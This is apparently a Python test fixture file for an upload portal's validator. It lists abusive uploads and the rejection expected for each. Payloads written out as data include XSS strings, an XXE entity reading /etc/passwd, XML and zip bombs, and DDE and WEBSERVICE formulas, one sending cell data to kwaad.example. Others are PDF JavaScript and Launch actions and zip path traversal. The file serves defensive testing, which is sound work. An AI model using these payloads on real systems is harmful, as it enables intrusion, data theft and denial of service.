"""Every abusive file that we could think of, with what must become of it."""

import stat
import zipfile
from dataclasses import dataclass

from portal.domain.uploads import UploadProblem
from tests.abuse.making import (
    DOCX_TYPE,
    XML,
    archive,
    docx,
    jpeg,
    lying_sizes,
    odf,
    packed_objects,
    pdf,
    png,
    pptx,
    relation,
    relations,
    stream,
    types,
    wide_png,
    with_bit,
    xlsx,
)

COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
SCRIPT = "<script>alert(1)</script>"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'.encode()
HTML = f"<!DOCTYPE html><html><body>{SCRIPT}</body></html>".encode()
BOMB = f'{XML}<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>'
OUTSIDE = f'{XML}<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
JAVASCRIPT = "<< /S /JavaScript /JS (app.alert(1)) >>"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


@dataclass(frozen=True)
class Abuse:
    """A file with its name, and the reason it is refused for."""

    what: str
    name: str
    content: bytes
    problem: UploadProblem


@dataclass(frozen=True)
class Disguise:
    """A file that may come in once what is wrong with it is gone."""

    what: str
    name: str
    content: bytes
    kept_as: str
    """The name it is kept under."""
    gone: bytes = b""
    """What may not be in it any more."""


def _symlink() -> bytes:
    link = zipfile.ZipInfo("word/link.xml")
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    return archive([("[Content_Types].xml", types(DOCX_TYPE)), (link, "/etc/passwd")])


def _twice() -> bytes:
    return archive(
        [
            ("[Content_Types].xml", types(DOCX_TYPE)),
            ("word/document.xml", "<a/>"),
            ("WORD/document.xml", "<b/>"),
        ]
    )


def _bzip2() -> bytes:
    odd = zipfile.ZipInfo("word/document.xml")
    odd.compress_type = zipfile.ZIP_BZIP2
    return archive([("[Content_Types].xml", types(DOCX_TYPE)), (odd, "<a/>")])


def _nested_bomb() -> bytes:
    inner = archive([("nul", b"\0" * 1_000_000)])
    return docx({f"word/media/deel{number}.dat": inner for number in range(20)})


def _liar() -> bytes:
    real = 3_141_592
    return lying_sizes(docx({"word/media/nul.dat": b"\0" * real}), real, 10)


P = UploadProblem
REFUSED = [
    # Names
    Abuse("executable", "rapport.exe", b"MZ" + b"\0" * 100, P.NOT_ALLOWED),
    Abuse("no extension", "rapport", pdf(), P.NOT_ALLOWED),
    Abuse("double extension, program last", "rapport.pdf.exe", b"MZ" + b"\0" * 100, P.NOT_ALLOWED),
    Abuse("double extension, program inside", "rapport.exe.pdf", pdf(), P.DOUBLE_EXTENSION),
    Abuse("double extension, page inside", "rapport.html.png", png(), P.DOUBLE_EXTENSION),
    Abuse("double extension, server script", "rapport.php.jpg", jpeg(), P.DOUBLE_EXTENSION),
    Abuse("program behind many spaces", f"rapport.pdf{' ' * 60}.exe", pdf(), P.NOT_ALLOWED),
    Abuse("reversed with a direction mark", "rapport\u202efdp.exe", pdf(), P.NOT_ALLOWED),
    Abuse("only dots", "....", pdf(), P.NO_NAME),
    Abuse("only an extension of a page", ".html", HTML, P.NOT_ALLOWED),
    Abuse("macro document by name", "rapport.docm", docx(), P.NOT_ALLOWED),
    Abuse("macro workbook by name", "cijfers.xlsm", xlsx(), P.NOT_ALLOWED),
    Abuse("SVG with script", "plaatje.svg", SVG, P.NOT_ALLOWED),
    Abuse("web page", "rapport.html", HTML, P.NOT_ALLOWED),
    Abuse("formula cells in CSV", "cijfers.csv", b"=cmd|'/C calc'!A0;1\n", P.NOT_ALLOWED),
    Abuse("zip file", "alles.zip", archive([("a.txt", "a")]), P.NOT_ALLOWED),
    Abuse("Java archive", "alles.jar", archive([("META-INF/MANIFEST.MF", "a")]), P.NOT_ALLOWED),
    # Content that is not what the name says
    Abuse("empty", "rapport.pdf", b"", P.EMPTY),
    Abuse("SVG as PNG", "plaatje.png", SVG, P.OTHER_CONTENT),
    Abuse("SVG as JPEG", "plaatje.jpg", SVG, P.OTHER_CONTENT),
    Abuse("web page as PDF", "rapport.pdf", HTML, P.OTHER_CONTENT),
    Abuse("web page before PDF", "rapport.pdf", HTML + pdf(), P.OTHER_CONTENT),
    Abuse("program as PDF", "rapport.pdf", b"MZ" + b"\0" * 100, P.OTHER_CONTENT),
    Abuse("program as Word", "rapport.docx", b"\x7fELF" + b"\0" * 100, P.OTHER_CONTENT),
    Abuse("PDF as Word", "rapport.docx", pdf(), P.OTHER_CONTENT),
    Abuse("Word as PDF", "rapport.pdf", docx(), P.OTHER_CONTENT),
    Abuse("Word as Excel", "cijfers.xlsx", docx(), P.OTHER_CONTENT),
    Abuse("any zip as Word", "rapport.docx", archive([("a.txt", "a")]), P.OTHER_CONTENT),
    Abuse("PNG as JPEG", "foto.jpg", png(), P.OTHER_CONTENT),
    Abuse("GIF as PNG", "foto.png", b"GIF89a" + b"\0" * 50, P.OTHER_CONTENT),
    Abuse("text sheet as document", "rapport.odt", odf("spreadsheet"), P.OTHER_CONTENT),
    Abuse("old Word file, or one with a password", "rapport.docx", COMPOUND, P.ENCRYPTED),
    # Two files in one
    Abuse("PDF with a zip behind it", "rapport.pdf", pdf() + archive([("a", "a")]), P.POLYGLOT),
    Abuse("PDF with a page behind it", "rapport.pdf", pdf() + HTML, P.POLYGLOT),
    Abuse("Word with a page behind it", "rapport.docx", docx() + HTML, P.POLYGLOT),
    Abuse("Word with a page as comment", "rapport.docx", archive([("a", "a")], HTML), P.POLYGLOT),
    # Damage
    Abuse("half a PDF", "rapport.pdf", pdf()[:200], P.DAMAGED),
    Abuse("half a document", "rapport.docx", docx()[:-60], P.DAMAGED),
    Abuse("half a picture", "foto.png", png((400, 300))[:120], P.DAMAGED),
    Abuse("only the beginning of a photo", "foto.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 40, P.DAMAGED),
    # Bombs
    Abuse("flat bomb", "rapport.docx", docx({"word/media/nul.dat": b"\0" * 60_000_000}), P.UNPACKS_TOO_BIG),
    Abuse(
        "workbook bomb", "cijfers.xlsx", xlsx({"xl/sharedStrings.xml": b" " * 60_000_000}), P.UNPACKS_TOO_BIG
    ),
    Abuse("bomb that lies about its size", "rapport.docx", _liar(), P.DAMAGED),
    Abuse("nested bomb", "rapport.docx", _nested_bomb(), P.EMBEDDED),
    Abuse(
        "too many entries",
        "rapport.docx",
        docx({f"word/{n}.xml": b"" for n in range(2_001)}),
        P.UNPACKS_TOO_BIG,
    ),
    Abuse("picture of very many pixels", "foto.png", wide_png(60_000, 60_000), P.TOO_MANY_PIXELS),
    Abuse("picture of too many pixels", "foto.png", wide_png(9_000, 9_000), P.TOO_MANY_PIXELS),
    Abuse("entity bomb", "rapport.docx", docx({"word/numbering.xml": BOMB}), P.XML_DEFINITIONS),
    Abuse(
        "entity bomb in other signs",
        "cijfers.xlsx",
        xlsx({"xl/a.xml": BOMB.encode("utf-16")}),
        P.XML_DEFINITIONS,
    ),
    Abuse(
        "entity bomb in odd signs",
        "cijfers.xlsx",
        xlsx({"xl/a.xml": '<?xml version="1.0" encoding="UTF-7"?><a/>'}),
        P.XML_DEFINITIONS,
    ),
    Abuse(
        "entity that reads a file",
        "verslag.pptx",
        pptx({"ppt/slides/slide1.xml": OUTSIDE}),
        P.XML_DEFINITIONS,
    ),
    Abuse(
        "entity bomb in an odd place", "rapport.odt", odf("text", {"Pictures/a.dat": BOMB}), P.XML_DEFINITIONS
    ),
    Abuse(
        "PDF that unpacks too far",
        "rapport.pdf",
        pdf("", packed_objects("x" * 60_000_000)),
        P.UNPACKS_TOO_BIG,
    ),
    # Odd archives
    Abuse("encrypted zip", "rapport.docx", with_bit(docx(), 0x1), P.ENCRYPTED),
    Abuse("path upwards", "rapport.docx", docx({"../../etc/cron.d/x": "x"}), P.STRANGE_ENTRIES),
    Abuse("path from the root", "rapport.docx", docx({"/etc/passwd": "x"}), P.STRANGE_ENTRIES),
    Abuse("path of Windows", "rapport.docx", docx({"C:\\x.xml": "x"}), P.STRANGE_ENTRIES),
    Abuse("symbolic link", "rapport.docx", _symlink(), P.STRANGE_ENTRIES),
    Abuse("the same name twice", "rapport.docx", _twice(), P.STRANGE_ENTRIES),
    Abuse("odd packing", "rapport.docx", _bzip2(), P.STRANGE_ENTRIES),
    # What acts in Office
    Abuse("macro workbook renamed", "cijfers.xlsx", xlsx({"xl/vbaProject.bin": COMPOUND}), P.MACROS),
    Abuse("macro document renamed", "rapport.docx", docx(main=MACRO_TYPE), P.MACROS),
    Abuse(
        "macro type in numbers",
        "rapport.docx",
        docx(main=MACRO_TYPE.replace("macroEnabled", "&#109;acroEnabled")),
        P.MACROS,
    ),
    Abuse("macro sheet of long ago", "cijfers.xlsx", xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}), P.MACROS),
    Abuse(
        "macros of LibreOffice", "rapport.odt", odf("text", {"Basic/Standard/Module1.xml": "<a/>"}), P.MACROS
    ),
    Abuse(
        "script at opening",
        "blad.ods",
        odf("spreadsheet", content='<event-listener href="vnd.sun.star.script:a?location=share"/>'),
        P.MACROS,
    ),
    Abuse("ActiveX", "rapport.docx", docx({"word/activeX/activeX1.xml": "<a/>"}), P.ACTIVE),
    Abuse("program inside", "rapport.docx", docx({"word/media/x.exe": b"x"}), P.ACTIVE),
    Abuse(
        "program inside as picture", "rapport.docx", docx({"word/media/x.png": b"MZ" + b"\0" * 50}), P.ACTIVE
    ),
    Abuse("SVG with script inside", "verslag.pptx", pptx({"ppt/media/a.svg": SVG}), P.ACTIVE),
    Abuse("web page inside", "rapport.docx", docx({"word/afchunk.html": HTML}), P.ACTIVE),
    Abuse(
        "Java inside (GIFAR)", "rapport.docx", docx({"META-INF/MANIFEST.MF": "a", "A.class": b"a"}), P.ACTIVE
    ),
    Abuse(
        "formula that starts a program",
        "cijfers.xlsx",
        xlsx(cells="<c><f>cmd|'/C calc'!A0</f></c>"),
        P.ACTIVE,
    ),
    Abuse(
        "formula that fetches",
        "cijfers.xlsx",
        xlsx(cells='<c><f>WEBSERVICE("https://kwaad.example/"&amp;A1)</f></c>'),
        P.ACTIVE,
    ),
    Abuse(
        "file within the file", "rapport.docx", docx({"word/embeddings/oleObject1.bin": COMPOUND}), P.EMBEDDED
    ),
    Abuse("PDF hidden as picture", "rapport.docx", docx({"word/media/a.png": pdf()}), P.EMBEDDED),
    Abuse(
        "template from outside",
        "rapport.docx",
        docx(
            {
                "word/_rels/settings.xml.rels": relations(
                    relation("attachedTemplate", "https://kwaad.example/x")
                )
            }
        ),
        P.EXTERNAL,
    ),
    Abuse(
        "picture from outside",
        "rapport.docx",
        docx({"word/_rels/document.xml.rels": relations(relation("image", "file://kwaad.example/x"))}),
        P.EXTERNAL,
    ),
    Abuse(
        "picture from outside, in numbers",
        "rapport.docx",
        docx(
            {
                "word/_rels/document.xml.rels": relations(
                    relation("image", "https://k.example", "&#69;xternal")
                )
            }
        ),
        P.EXTERNAL,
    ),
    Abuse(
        "cells from outside", "cijfers.xlsx", xlsx({"xl/externalLinks/externalLink1.xml": "<a/>"}), P.EXTERNAL
    ),
    Abuse(
        "field that starts a program",
        "rapport.docx",
        docx(body="<w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO c:\\calc.exe</w:instrText>"),
        P.EXTERNAL,
    ),
    Abuse(
        "picture from outside in LibreOffice",
        "rapport.odt",
        odf("text", content='<draw:image xlink:href="https://kwaad.example/x.png"/>'),
        P.EXTERNAL,
    ),
    Abuse(
        "password on a document of LibreOffice",
        "rapport.odt",
        odf("text", manifest="<manifest:encryption-data/>"),
        P.ENCRYPTED,
    ),
    # What acts in PDF
    Abuse("script in PDF", "rapport.pdf", pdf(f"/OpenAction {JAVASCRIPT}"), P.ACTIVE),
    Abuse(
        "script in PDF in numbers",
        "rapport.pdf",
        pdf("/OpenAction << /S /J#61va#53cript /J#53 (app.alert(1)) >>"),
        P.ACTIVE,
    ),
    Abuse("script in packed objects", "rapport.pdf", pdf("", packed_objects(JAVASCRIPT)), P.ACTIVE),
    Abuse(
        "short script in packed objects", "rapport.pdf", pdf("", packed_objects("<< /JS (x) >>")), P.ACTIVE
    ),
    Abuse(
        "script packed twice",
        "rapport.pdf",
        pdf("", stream("/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", b"00")),
        P.DAMAGED,
    ),
    Abuse(
        "packed objects out of sight",
        "rapport.pdf",
        pdf("", b"<< /Type /ObjStm (endobj) >>\nstream\nx\nendstream"),
        P.DAMAGED,
    ),
    Abuse("program from PDF", "rapport.pdf", pdf("/OpenAction << /S /Launch /F (calc.exe) >>"), P.ACTIVE),
    Abuse("file within PDF", "rapport.pdf", pdf("/Names << /EmbeddedFiles 9 0 R >>"), P.EMBEDDED),
    Abuse("film in PDF", "rapport.pdf", pdf("/A << /S /RichMedia >>"), P.ACTIVE),
    Abuse("form with scripts in PDF", "rapport.pdf", pdf("/AcroForm << /XFA 9 0 R >>"), P.ACTIVE),
    Abuse("form that sends away", "rapport.pdf", pdf("/A << /S /SubmitForm /F (x) >>"), P.EXTERNAL),
    Abuse("PDF with a password", "rapport.pdf", pdf(trailer="/Encrypt 9 0 R"), P.ENCRYPTED),
]

MADE_HARMLESS = [
    Disguise("path in the name", "../../../etc/passwd.pdf", pdf(), "passwd.pdf"),
    Disguise("path of Windows in the name", "C:\\Users\\x\\rapport.pdf", pdf(), "rapport.pdf"),
    Disguise(
        "script in the name",
        '"><img src=x onerror=alert(1)>.pdf',
        pdf(),
        "___img src=x onerror=alert(1)_.pdf",
    ),
    Disguise("lines in the name", "rapport\r\nX-Kwaad: 1.pdf", pdf(), "rapportX-Kwaad_ 1.pdf"),
    Disguise("direction mark in the name", "rapport\u202egnp.pdf", pdf(), "rapportgnp.pdf"),
    Disguise("very long name", f"{'lang ' * 100}.pdf", pdf(), f"{('lang ' * 100)[:116].strip()}.pdf"),
    Disguise("device as name", "CON.pdf", pdf(), "_CON.pdf"),
    Disguise("dots and spaces around the name", " ..rapport.pdf. . ", pdf(), "rapport.pdf"),
    Disguise("page behind a picture", "foto.png", png() + HTML, "foto.png", b"<script>"),
    Disguise("zip behind a picture", "foto.png", png() + archive([("a", "a")]), "foto.png", b"PK\x03\x04"),
    Disguise(
        "Java behind a photo (GIFAR)",
        "foto.jpg",
        jpeg() + archive([("A.class", "a")]),
        "foto.jpg",
        b"PK\x03\x04",
    ),
    Disguise(
        "script in the words of a picture",
        "foto.png",
        png(words={"Comment": SCRIPT}),
        "foto.png",
        b"<script>",
    ),
    Disguise(
        "script in the comment of a photo",
        "foto.jpeg",
        jpeg(comment=SCRIPT.encode()),
        "foto.jpeg",
        b"<script>",
    ),
    Disguise("place and camera in a photo", "foto.jpg", jpeg(place=True), "foto.jpg", b"Geheime Camera"),
]

HONEST = [
    ("verslag.pdf", pdf()),
    ("verslag met objecten.pdf", pdf("", packed_objects("<< /Type /Font >>"))),
    ("verslag v1.2 (definitief).docx", docx()),
    (
        "link.docx",
        docx({"word/_rels/document.xml.rels": relations(relation("hyperlink", "https://overheid.nl"))}),
    ),
    ("cijfers.xlsx", xlsx(cells='<c><f>A1&amp;"|"&amp;SUM(B1:B2)</f></c>')),
    (
        "presentatie.pptx",
        pptx({"ppt/media/a.png": png(), "ppt/media/b.svg": SVG.replace(SCRIPT.encode(), b"")}),
    ),
    ("verslag.odt", odf("text", content='<draw:image xlink:href="Pictures/a.png"/>')),
    ("blad.ods", odf("spreadsheet", {"Pictures/a.png": png()})),
    ("FOTO.JPG", jpeg()),
    ("foto.jpeg", jpeg()),
    ("schéma été.png", png()),
]
